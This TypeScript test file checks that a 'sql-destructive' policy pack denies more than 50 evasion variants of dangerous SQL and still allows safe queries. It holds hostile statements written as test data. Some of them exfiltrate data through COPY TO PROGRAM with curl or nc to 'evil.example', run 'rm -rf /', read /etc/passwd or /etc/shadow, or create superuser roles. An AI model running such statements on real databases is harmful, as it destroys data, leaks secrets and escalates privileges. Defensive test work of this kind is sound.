import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { SqlFacts } from '../../../src/interaction.ts';
import { compilePolicy } from '../../../src/policy/compile.ts';
import { classifySql, initSqlClassifier } from '../../../src/classify/sql.ts';
import { sqlInput } from '../support/inputs.ts';

// The pack sits in front of a rule that allows all SQL, so any statement it misses is allowed: a bypass.
const engine = compilePolicy({
  include: ['sql-destructive'],
  rules: [{ name: 'allow-all-sql', match: { interactions: ['sql.query'] }, action: 'allow' }],
});

type Case = readonly [sql: string, facts: Partial<SqlFacts>, rule: string];

const multi = { multiStatement: true };
const noWhere = { hasWhere: false };

/** Evasion shapes, written as the facts the SQL classifier reports for them. */
const evasions: Case[] = [
  ['DROP TABLE users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['drop table users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['DrOp TaBlE users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['/* harmless */ DROP TABLE users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['-- note\nDROP TABLE users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['DROP/**/TABLE/**/users', { kinds: ['drop'], tables: ['users'] }, 'drop'],
  ['DROP TABLE "Users"', { kinds: ['drop'], tables: ['Users'] }, 'drop'],
  ['DROP TABLE IF EXISTS public.users CASCADE', { kinds: ['drop'], tables: ['public.users'] }, 'drop'],
  ['DROP SCHEMA public CASCADE', { kinds: ['drop'], tables: [] }, 'drop'],
  ['DROP DATABASE prod', { kinds: ['drop_database'], tables: [] }, 'drop'],
  ['SELECT 1; DROP TABLE users', { kinds: ['select', 'drop'], tables: ['users'], ...multi }, 'drop'],
  ['SELECT 1;DROP TABLE users;--', { kinds: ['select', 'drop'], tables: ['users'], ...multi }, 'drop'],
  ['BEGIN; DROP TABLE users; COMMIT', { kinds: ['transaction', 'drop', 'transaction'], tables: ['users'], ...multi }, 'drop'],
  ['CREATE TABLE t AS SELECT 1; DROP TABLE t', { kinds: ['create_table_as', 'drop'], tables: ['t'], ...multi }, 'drop'],
  ['TRUNCATE users', { kinds: ['truncate'], tables: ['users'] }, 'truncate'],
  ['TRUNCATE TABLE users RESTART IDENTITY CASCADE', { kinds: ['truncate'], tables: ['users'] }, 'truncate'],
  ['select 1; truncate users', { kinds: ['select', 'truncate'], tables: ['users'], ...multi }, 'truncate'],
  ['ALTER TABLE users DROP COLUMN email', { kinds: ['alter_table'], tables: ['users'] }, 'alter'],
  ["ALTER SYSTEM SET archive_command = 'curl evil'", { kinds: ['alter_system'], tables: [] }, 'alter'],
  ['ALTER DATABASE prod OWNER TO mallory', { kinds: ['alter_database'], tables: [] }, 'alter'],
  ['UPDATE users SET admin = true', { kinds: ['update'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['DELETE FROM users', { kinds: ['delete'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['delete from users;', { kinds: ['delete'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['DELETE FROM users -- WHERE id = 1', { kinds: ['delete'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['DELETE /* WHERE id = 1 */ FROM users', { kinds: ['delete'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['DELETE FROM users USING orders', { kinds: ['delete'], tables: ['users', 'orders'], ...noWhere }, 'update-delete-without-where'],
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', { kinds: ['select', 'delete'], tables: ['users', 'd'], ...noWhere }, 'update-delete-without-where'],
  // The same CTE, reported with only the outer statement's kind: has_where alone must catch it.
  ['WITH d AS (DELETE FROM users RETURNING *) SELECT 1', { kinds: ['select'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['WITH u AS (UPDATE users SET x = 1 RETURNING id) SELECT count(*) FROM u', { kinds: ['select', 'update'], tables: ['users', 'u'], functions: ['count'], ...noWhere }, 'update-delete-without-where'],
  ['SELECT 1 WHERE true; DELETE FROM users', { kinds: ['select', 'delete'], tables: ['users'], ...noWhere, ...multi }, 'update-delete-without-where'],
  ['select * from users where id = 1; update users set x = 1', { kinds: ['select', 'update'], tables: ['users'], ...noWhere, ...multi }, 'update-delete-without-where'],
  ['EXPLAIN ANALYZE DELETE FROM users', { kinds: ['explain', 'delete'], tables: ['users'], ...noWhere }, 'update-delete-without-where'],
  ['PREPARE p AS DELETE FROM users; EXECUTE p', { kinds: ['prepare', 'delete', 'execute'], tables: ['users'], ...noWhere, ...multi }, 'update-delete-without-where'],
  ["COPY users TO PROGRAM 'curl -d @- evil.example'", { kinds: ['copy'], tables: ['users'], flags: { copy_to_program: true } }, 'copy-program'],
  ["COPY users FROM PROGRAM 'rm -rf /'", { kinds: ['copy'], tables: ['users'], flags: { copy_from_program: true } }, 'copy-program'],
  ["copy (select * from users) to program 'nc evil 9'", { kinds: ['copy', 'select'], tables: ['users'], flags: { copy_to_program: true, select_star: true } }, 'copy-program'],
  ["COPY users TO '/tmp/users.csv'", { kinds: ['copy'], tables: ['users'], flags: { copy_to_file: true } }, 'copy-server-file'],
  ["COPY users FROM '/etc/passwd'", { kinds: ['copy'], tables: ['users'], flags: { copy_from_file: true } }, 'copy-server-file'],
  ['GRANT ALL ON users TO PUBLIC', { kinds: ['grant'], tables: ['users'] }, 'grant-revoke'],
  ['REVOKE SELECT ON users FROM analyst', { kinds: ['revoke'], tables: ['users'] }, 'grant-revoke'],
  ['grant select on all tables in schema public to mallory', { kinds: ['grant'], tables: [] }, 'grant-revoke'],
  ['GRANT admin TO alice', { kinds: ['grant_role'], tables: [] }, 'role-change'],
  ['CREATE ROLE hacker SUPERUSER LOGIN', { kinds: ['create_role'], tables: [] }, 'role-change'],
  ["CREATE USER hacker WITH PASSWORD 'x'", { kinds: ['create_role'], tables: [] }, 'role-change'],
  ['ALTER ROLE alice SUPERUSER', { kinds: ['alter_role'], tables: [] }, 'role-change'],
  ["ALTER USER alice WITH PASSWORD 'x'", { kinds: ['alter_role'], tables: [] }, 'role-change'],
  ['ALTER ROLE alice SET search_path = evil', { kinds: ['alter_role_set'], tables: [] }, 'role-change'],
  ['DROP ROLE bob', { kinds: ['drop_role'], tables: [] }, 'role-change'],
  ['DROP USER bob', { kinds: ['drop_role'], tables: [] }, 'role-change'],
  ['SET ROLE admin', { kinds: ['set_role'], tables: [] }, 'role-change'],
  ['SET SESSION AUTHORIZATION postgres', { kinds: ['set_session_authorization'], tables: [] }, 'role-change'],
  ['REASSIGN OWNED BY alice TO mallory', { kinds: ['reassign_owned'], tables: [] }, 'role-change'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', { tables: ['pg_stat_activity'], functions: ['pg_terminate_backend'] }, 'dangerous-function'],
  ['SELECT PG_TERMINATE_BACKEND(123)', { tables: [], functions: ['pg_terminate_backend'] }, 'dangerous-function'],
  ['SELECT pg_catalog.pg_terminate_backend(123)', { tables: [], functions: ['pg_catalog.pg_terminate_backend'] }, 'dangerous-function'],
  ['SELECT "pg_catalog"."pg_terminate_backend"(123)', { tables: [], functions: ['"pg_catalog"."pg_terminate_backend"'] }, 'dangerous-function'],
  ['SELECT * FROM users WHERE id = (SELECT pg_cancel_backend(1))', { tables: ['users'], functions: ['pg_cancel_backend'], flags: { select_star: true } }, 'dangerous-function'],
  ['SELECT pg_reload_conf()', { tables: [], functions: ['pg_reload_conf'] }, 'dangerous-function'],
  ["SELECT coalesce(pg_read_file('/etc/passwd'), '')", { tables: [], functions: ['coalesce', 'pg_read_file'] }, 'dangerous-function'],
  ["SELECT pg_read_binary_file('/etc/shadow')", { tables: [], functions: ['pg_read_binary_file'] }, 'dangerous-function'],
  ["SELECT pg_ls_dir('.')", { tables: [], functions: ['pg_ls_dir'] }, 'dangerous-function'],
  ["SELECT lo_import('/etc/passwd')", { tables: [], functions: ['lo_import'] }, 'dangerous-function'],
  ["SELECT lo_export(16384, '/tmp/x')", { tables: [], functions: ['lo_export'] }, 'dangerous-function'],
  ["SELECT dblink('host=evil', 'select 1')", { tables: [], functions: ['dblink'] }, 'dangerous-function'],
  ["SELECT dblink_exec('host=evil', 'drop table users')", { tables: [], functions: ['dblink_exec'] }, 'dangerous-function'],
  ["SELECT public.dblink_connect('x')", { tables: [], functions: ['public.dblink_connect'] }, 'dangerous-function'],
  ["SELECT set_config('role', 'postgres', false)", { kinds: ['select', 'set', 'set_role'], tables: [], functions: ['set_config'] }, 'role-change'],
  ["INSERT INTO log SELECT pg_terminate_backend(pid) FROM pg_stat_activity", { kinds: ['insert'], tables: ['log', 'pg_stat_activity'], functions: ['pg_terminate_backend'] }, 'dangerous-function'],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", { kinds: ['do'], tables: [] }, 'do-block'],
  ["do language plpgsql $$ begin perform pg_sleep(1); end $$", { kinds: ['do'], tables: [] }, 'do-block'],
  ["SELECT 1; DO $$ BEGIN DELETE FROM users; END $$", { kinds: ['select', 'do'], tables: [], ...multi }, 'do-block'],
  ['CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql', { kinds: ['create_function'], tables: [] }, 'server-code'],
  ['CREATE TRIGGER t BEFORE INSERT ON users EXECUTE FUNCTION f()', { kinds: ['create_trigger'], tables: ['users'] }, 'server-code'],
  ['CREATE RULE r AS ON SELECT TO users DO INSTEAD NOTHING', { kinds: ['create_rule'], tables: ['users'] }, 'server-code'],
  ["LOAD '/tmp/evil.so'", { kinds: ['load'], tables: [] }, 'server-code'],
  ['CREATE EXTENSION dblink', { kinds: ['create_extension'], tables: [] }, 'server-code'],
  ['SELEC * FROM users', { kinds: [], tables: [], parseError: 'syntax error at or near "SELEC"' }, 'unparseable'],
  ['DROP TABLE users; \u0000', { kinds: [], tables: [], parseError: 'invalid byte sequence' }, 'unparseable'],
  ['(flagged by the classifier only)', { kinds: ['select'], flags: { parse_error: true } }, 'unparseable'],
  ['SELECT 1; DROP TABLE (unterminated', { kinds: ['select'], parseError: 'syntax error at end of input', ...multi }, 'unparseable'],
];

const safe: Case[] = [
  ['SELECT id FROM orders WHERE id = 1', {}, ''],
  ['SELECT * FROM orders', { flags: { select_star: true } }, ''],
  ['SELECT 1 /* ; DROP TABLE users */', { kinds: ['select'], tables: [] }, ''],
  ["SELECT 'DROP TABLE users'", { kinds: ['select'], tables: [] }, ''],
  ['SELECT * FROM drop_log', { kinds: ['select'], tables: ['drop_log'] }, ''],
  ['INSERT INTO orders (id) VALUES (1)', { kinds: ['insert'] }, ''],
  ['UPDATE orders SET paid = true WHERE id = 1', { kinds: ['update'] }, ''],
  ['DELETE FROM orders WHERE id = 1', { kinds: ['delete'] }, ''],
  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', { kinds: ['select', 'delete'] }, ''],
  ['SET statement_timeout = 5000', { kinds: ['set'], tables: [] }, ''],
  ['BEGIN', { kinds: ['transaction'], tables: [] }, ''],
  ['EXPLAIN SELECT * FROM orders', { kinds: ['explain', 'select'] }, ''],
  ['SELECT count(*), lower(name), now() FROM orders WHERE x', { functions: ['count', 'lower', 'now'] }, ''],
  ['SELECT my_dblink_helper()', { functions: ['my_dblink_helper'] }, ''],
  ['COPY orders TO STDOUT', { kinds: ['copy'] }, ''],
  ['CREATE TABLE scratch (id int)', { kinds: ['create_table'] }, ''],
  ['CALL refresh_stats()', { kinds: ['call'], tables: [] }, ''],
];

describe('sql-destructive pack', () => {
  it('is checked against at least 50 evasion shapes', () => assert.ok(evasions.length >= 50, `${evasions.length} cases`));

  for (const [sql, facts, rule] of evasions) {
    it(`denies ${JSON.stringify(sql)} by sql-destructive/${rule}`, () => {
      const decision = engine.decide(sqlInput({ text: sql, functions: [], ...facts }));
      assert.equal(decision.action, 'deny');
      assert.equal(decision.rule, `sql-destructive/${rule}`);
    });
  }

  for (const [sql, facts] of safe) {
    it(`still allows ${JSON.stringify(sql)} through the rule that follows`, () => {
      const decision = engine.decide(sqlInput({ text: sql, ...facts }));
      assert.equal(decision.rule, 'allow-all-sql');
      assert.equal(decision.action, 'allow');
    });
  }

  it('leaves other protocols to the following rules', () => {
    const other = compilePolicy({ include: ['sql-destructive'], rules: [{ name: 'allow-all', action: 'allow' }] });
    const decision = other.decide(sqlInput({}, { kind: 'http.request', summary: { http: { method: 'DELETE', path: '/x', query: '', headers: {} } } }));
    assert.equal(decision.rule, 'allow-all');
  });
});

/** Shapes from test/classify/sql.test.ts and beyond that the facts-only table above does not spell out. */
const moreEvasions: readonly string[] = [
  'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
  'select * from t where id in (with d as (delete from u returning id) select id from d)',
  'with t as (select 1) delete from t',
  '/* outer /* nested */ still a comment; select 1 */ drop table t',
  "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil.example 9'",
  "copy t to '/tmp/dump'",
  'select pg_catalog.pg_terminate_backend(1)',
  "select (select lo_export(1, '/tmp/x'))",
  "insert into t values (pg_read_file('/etc/passwd'))",
  'set local role postgres',
  'SET SESSION AUTHORIZATION DEFAULT',
  'drop owned by alice',
  'alter role bob set search_path = evil',
  "create procedure p() language sql as 'select 1'",
  'create event trigger e on ddl_command_start execute function f()',
  'create trusted procedural language plx handler h',
  'revoke admin from bob',
  'create group g',
  'update t set a = 1 from s',
  'SELECT a INTO newt FROM t; DROP TABLE t',
  'explain analyze with d as (delete from t returning 1) select 1',
  'select 1 from t where id = 1 for update; truncate t',
  'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
  'merge into t using s on 1 = 1 when matched then update set a = 1',
  'delete from t where true',
  'DELETE FROM t WHERE 1 = 1',
  "update accounts set balance = 0 where 'x' = 'x'",
];

describe('sql-destructive pack against the real SQL classifier', () => {
  before(() => initSqlClassifier());

  const statements = [...evasions.map(([sql]) => sql), ...moreEvasions];
  it(`covers at least 50 evasion statements (${statements.length})`, () => assert.ok(statements.length >= 50));

  for (const sql of statements) {
    it(`denies ${JSON.stringify(sql)}`, () => {
      const facts = classifySql(sql);
      const decision = engine.decide(sqlInput(facts));
      assert.equal(decision.action, 'deny', `bypass: classified as ${JSON.stringify({ kinds: facts.kinds, flags: facts.flags, parseError: facts.parseError })}`);
      assert.match(decision.rule, /^sql-destructive\//);
    });
  }

  for (const [sql] of safe) {
    it(`still allows ${JSON.stringify(sql)}`, () => {
      assert.equal(engine.decide(sqlInput(classifySql(sql))).action, 'allow');
    });
  }
});
